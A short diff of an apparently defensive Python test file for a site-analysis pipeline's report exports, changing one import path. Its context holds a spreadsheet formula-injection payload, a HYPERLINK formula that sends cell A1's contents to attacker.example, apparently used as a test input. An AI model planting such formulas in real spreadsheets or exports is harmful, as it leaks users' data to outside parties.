@@ -14,7 +14,7 @@ import pytest
 
 from interlink_pipeline.core.publish import exports, report
 from interlink_pipeline.core.publish.report import TOP_OPPORTUNITIES
-from interlink_pipeline_tests.conftest import LIGHT, chromium_path, register_lightchiropractic, run_site
+from interlink_pipeline_tests.helpers import LIGHT, chromium_path, register_lightchiropractic, run_site
 
 INJECTED = '=HYPERLINK("http://attacker.example/?leak="&A1,"Back Pain")'
 TARGET_PAGE = "https://www.lightchiropractic.sg/treatment/lower-back-pain/"
